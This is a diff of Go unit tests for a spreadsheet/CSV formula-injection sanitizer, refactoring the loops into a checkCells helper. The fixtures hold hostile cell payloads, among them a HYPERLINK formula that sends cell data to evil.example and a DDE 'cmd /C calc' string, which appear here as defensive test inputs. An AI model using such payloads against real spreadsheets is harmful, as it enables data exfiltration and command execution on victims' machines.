@@ -6,8 +6,18 @@ import (
 	"testing"
 )
 
+// checkCells checks Cell on every input of cases against its output.
+func checkCells(t *testing.T, cases map[string]string) {
+	t.Helper()
+	for in, want := range cases {
+		if got := Cell(in); got != want {
+			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
 func TestCell(t *testing.T) {
-	for in, want := range map[string]string{
+	checkCells(t, map[string]string{
 		`=HYPERLINK("http://evil.example/?x="&A1,"click")`: `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
 		"+1+cmd|' /C calc'!A0":                             "'+1+cmd|' /C calc'!A0",
 		"-2+3":                                             "'-2+3",
@@ -32,11 +42,7 @@ func TestCell(t *testing.T) {
 		"＠SUM(1)": "'＠SUM(1)",
 		"﹦1+1":    "'﹦1+1",
 		"a＝b":     "a＝b",
-	} {
-		if got := Cell(in); got != want {
-			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
-		}
-	}
+	})
 }
 
 func TestWriter(t *testing.T) {
@@ -70,7 +76,7 @@ func TestWriter(t *testing.T) {
 const attack = `x;=HYPERLINK("http://evil.example/?x="&A1,"click")`
 
 func TestCellAfterSeparator(t *testing.T) {
-	for in, want := range map[string]string{
+	checkCells(t, map[string]string{
 		attack:               `x;'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
 		",=1+12":             ",'=1+12",
 		"Ada,=1+12":          "Ada,'=1+12",
@@ -84,11 +90,7 @@ func TestCellAfterSeparator(t *testing.T) {
 		"a; b = c":           "a; b = c",
 		"a;":                 "a;",
 		"a, ":                "a, ",
-	} {
-		if got := Cell(in); got != want {
-			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
-		}
-	}
+	})
 }
 
 // TestSplitOnAnotherSeparator mounts the attack: the file is opened by a
